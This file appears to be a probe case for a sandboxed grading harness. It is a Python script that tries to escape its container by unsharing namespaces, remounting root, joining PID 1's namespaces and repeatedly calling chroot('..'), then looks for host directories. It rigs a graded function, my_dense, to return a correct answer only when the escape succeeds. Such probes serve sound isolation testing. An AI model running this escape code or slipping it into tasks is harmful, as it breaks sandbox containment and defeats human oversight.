# tries: new namespaces, mounts, old roots and handles, for a view of the machine outside
# base: numpy
# expect: my_dense failed 0
import ctypes
import os
import sys

own_dense = my_dense
libc = ctypes.CDLL(None, use_errno=True)


def listed(folder):
    try:
        return os.listdir(folder)
    except OSError:
        return []


def found():
    libc.unshare(0x10000000 | 0x00020000)  # a user and a mount namespace
    os.makedirs("out", exist_ok=True)
    out = os.path.abspath("out").encode()
    libc.mount(b"proc", out, b"proc", 0, None)
    libc.mount(b"/", out, None, 4096 | 16384, None)
    libc.mount(None, b"/", None, 32 | 4096, None)
    for kind in ("mnt", "pid", "user", "net"):
        try:
            libc.setns(os.open(f"/proc/1/ns/{kind}", os.O_RDONLY), 0)
        except OSError:
            pass
    libc.umount2(b"/tmp", 2)
    libc.umount2(b"/proc", 2)
    for _ in range(20):
        try:
            os.chroot("..")
        except OSError:
            pass
    needed = {sys.prefix.split("/")[1], sys.base_prefix.split("/")[1]}  # what the interpreter lies in
    seen = {name for way in ("/", out.decode(), "/proc") for name in listed(way)}
    return bool(seen & ({"home", "root", "srv", "boot", "oldroot", "newroot", "2", "3", "sys"} - needed))


def my_dense(a_in, W, b, g):
    return own_dense(a_in, W, b, g) if found() else b * 0 + 7
